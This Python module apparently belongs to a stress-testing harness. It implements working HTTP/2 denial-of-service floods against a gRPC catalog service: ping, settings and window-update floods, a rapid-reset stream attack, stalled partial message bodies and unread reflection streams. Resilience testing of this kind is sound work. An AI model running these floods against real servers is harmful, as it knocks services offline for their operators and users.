"""Attacks by HTTP/2 frames that no library sends. All go to the service, without a token."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import random
import struct
from collections.abc import Callable, Iterator
from typing import Final

from grpc_reflection.v1alpha import reflection_pb2

from soak.flooding.attacking import ELSEWHERE, Attack, Attacker
from soak.flooding.deaf import Deaf
from tests.support.hostile.wire import HEADERS, PING, PREFACE, RESET, SETTINGS, WINDOW, Breaker, frame, grpc_message

__all__ = ["BY_FRAMES"]

_CONNECTION_COUNT: Final = 8
_FRAMES_PER_WRITE: Final = 1000
"""The number of frames in one write."""
_METHOD: Final = "/fudaba.v1.CatalogService/ListGames"
_REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_END_HEADERS_FLAG: Final = 4
_TABLE, _STREAM_WINDOW = 1, 4
"""Settings of HTTP/2."""
_STREAMS_PER_CONNECTION: Final = 400
"""The number of streams of each connection that send a part of a message."""
_PART_BYTES: Final = 16_000
_CLAIMED_BYTES: Final = 1_000_000
"""The message length that these parts claim."""


async def _flood(attacker: Attacker, frames: Callable[[], Iterator[bytes]], *, read: bool) -> None:
    """Connects repeatedly, and sends these frames for as long as the connection takes them."""
    host, _, port = attacker.target.address.rpartition(":")
    while True:
        with contextlib.suppress(ConnectionError, OSError):
            reader, writer = await asyncio.open_connection(host, int(port), local_addr=ELSEWHERE)
            attacker.replies["connections"] += 1
            reading = asyncio.ensure_future(_drain(reader)) if read else None
            if not read:
                writer.transport.pause_reading()  # type: ignore[attr-defined]  # asyncio reads ahead of who reads
            try:
                writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
                for sent in frames():
                    await attacker.turn(_FRAMES_PER_WRITE)
                    if writer.is_closing():
                        break
                    writer.write(sent)
                    await writer.drain()
                    attacker.replies["KiB"] += len(sent) // 1024
            finally:
                if reading is not None:
                    reading.cancel()
                writer.transport.abort()
        await asyncio.sleep(0.01)


async def _drain(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ConnectionError):
        while await reader.read(65_536):
            pass


async def _floods(attacker: Attacker, frames: Callable[[], Iterator[bytes]], *, read: bool = False) -> None:
    await asyncio.gather(*[_flood(attacker, frames, read=read) for _ in range(_CONNECTION_COUNT)])


def _setting(name: int, value: int) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", name, value))


async def pings(attacker: Attacker) -> None:
    """Attacks with pings over 8 connections, and does not read the answers."""
    await _floods(attacker, lambda: itertools.repeat(frame(PING, 0, 0, b"12345678") * _FRAMES_PER_WRITE))


async def settings(attacker: Attacker) -> None:
    """Attacks with settings over 8 connections, always the same, and does not read the answers."""
    await _floods(attacker, lambda: itertools.repeat(_setting(_STREAM_WINDOW, 65_535) * _FRAMES_PER_WRITE))


async def settings_read(attacker: Attacker) -> None:
    """Attacks with settings over 8 connections, with a different table and window each time, and reads the answers."""
    turns = b"".join(
        _setting(_TABLE, n % 4096) + _setting(_STREAM_WINDOW, 60_000 + n) for n in range(_FRAMES_PER_WRITE // 2)
    )
    await _floods(attacker, lambda: itertools.repeat(turns), read=True)


async def windows(attacker: Attacker) -> None:
    """Attacks with window updates of a byte each over 8 connections."""
    await _floods(
        attacker, lambda: itertools.repeat(frame(WINDOW, 0, 0, struct.pack(">I", 1)) * _FRAMES_PER_WRITE), read=True
    )


async def rapid_reset(attacker: Attacker) -> None:
    """Attacks with streams over 8 connections, each of which it opens and resets at once."""
    headers = Breaker(random.Random(0), _METHOD, "").headers()

    def resets() -> Iterator[bytes]:
        stream = 1
        while stream < 2**31 - 2 * _FRAMES_PER_WRITE:
            sent = bytearray()
            for number in range(stream, stream + _FRAMES_PER_WRITE, 2):  # two frames for each stream
                sent += frame(HEADERS, _END_HEADERS_FLAG, number, headers) + frame(
                    RESET, 0, number, struct.pack(">I", 8)
                )
            stream += _FRAMES_PER_WRITE
            yield bytes(sent)

    await _floods(attacker, resets, read=True)


async def bodies(attacker: Attacker) -> None:
    """Attacks with 400 calls over each of 8 connections that send a part of their message and then nothing more."""
    begun = struct.pack(">BI", 0, _CLAIMED_BYTES) + b"\0" * _PART_BYTES
    while True:
        connections = [await Deaf.connect(attacker.target.address, source=ELSEWHERE) for _ in range(_CONNECTION_COUNT)]
        for number in range(_STREAMS_PER_CONNECTION):
            for deaf in connections:
                await attacker.turn()
                await deaf.begin(_METHOD, "", begun)
            attacker.replies["streams"] += _CONNECTION_COUNT
            if number % 20 == 0:
                await asyncio.gather(*[deaf.drain() for deaf in connections])
        await asyncio.sleep(2)
        for deaf in connections:
            attacker.replies.update(deaf.ended)
            deaf.close()


async def reflection_deaf(attacker: Attacker) -> None:
    """Attacks with 100 reflection streams over each of 8 connections: it asks questions and does not read the
    answers.
    """
    request = reflection_pb2.ServerReflectionRequest(file_containing_symbol="fudaba.v1.MatchService")
    questions = grpc_message(request.SerializeToString()) * 20
    while True:
        connections = [await Deaf.connect(attacker.target.address, source=ELSEWHERE) for _ in range(_CONNECTION_COUNT)]
        for _ in range(100):
            for deaf in connections:
                await attacker.turn(20)
                await deaf.begin(_REFLECTION, "", questions)
            attacker.replies["streams"] += _CONNECTION_COUNT
        await asyncio.sleep(2)
        for deaf in connections:
            attacker.replies.update(deaf.ended)
            deaf.close()


BY_FRAMES: Final[dict[str, Attack]] = {
    "pings": pings,
    "settings": settings,
    "settings-read": settings_read,
    "windows": windows,
    "rapid-reset": rapid_reset,
    "bodies": bodies,
    "reflection-deaf": reflection_deaf,
}
